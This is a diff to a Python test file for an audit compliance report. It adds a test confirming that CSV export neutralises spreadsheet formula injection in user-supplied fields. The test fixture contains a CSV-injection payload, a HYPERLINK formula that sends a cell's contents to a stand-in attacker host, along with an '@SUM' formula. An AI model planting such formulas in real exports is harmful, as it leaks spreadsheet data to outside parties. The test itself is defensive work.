@@ -12,7 +12,12 @@ from datetime import date
 
 import pytest
 
-from shared.audit.compliance import ComplianceError, compliance_report
+from shared.audit.compliance import (
+    ComplianceError,
+    ComplianceReport,
+    RefusedAttempt,
+    compliance_report,
+)
 from shared.audit.judge import Use, register_from
 from shared.delegation import Power, decide_publish, decide_revoke, decide_suspend
 from shared.events import Actor, NewEvent, StoredEvent
@@ -341,3 +346,30 @@ def test_the_competent_authority_acts_in_its_own_right_and_another_does_not(
     own = next(a for a in report.actions if a.judgement.use is Use.OWN_COMPETENCE)
     assert own.judgement.valid_for(None, None) and not own.judgement.valid_for(*code)
     assert not report.compliant
+
+
+def test_text_a_spreadsheet_would_run_is_kept_as_text_in_the_csv() -> None:
+    """A user id or message written to look like a formula (an officer named in a
+    department's answer is whatever the department wrote) opens as text in Excel/WPS."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    refused = RefusedAttempt(
+        case_id=uuid.uuid4(),
+        case_number="XF-2026-000143",
+        version=9,
+        position=1,
+        occurred_at=china(11, 30, 9, 0),
+        recorded_at=china(11, 30, 9, 0),
+        actor_user=formula,
+        actor_role="department_officer",
+        actor_station="hc_forestry",
+        action="approve",
+        reason="not_awaiting_answer",
+        message="@SUM(1+1)",
+    )
+    report = ComplianceReport(
+        station="xuefeng_station", start=START, end=END, actions=(), refused=(refused,)
+    )
+    [row] = list(csv.DictReader(io.StringIO(report.csv())))
+    assert row["actor_user"] == "'" + formula
+    assert row["message"] == "'@SUM(1+1)"
+    assert row["reason"] == "not_awaiting_answer"
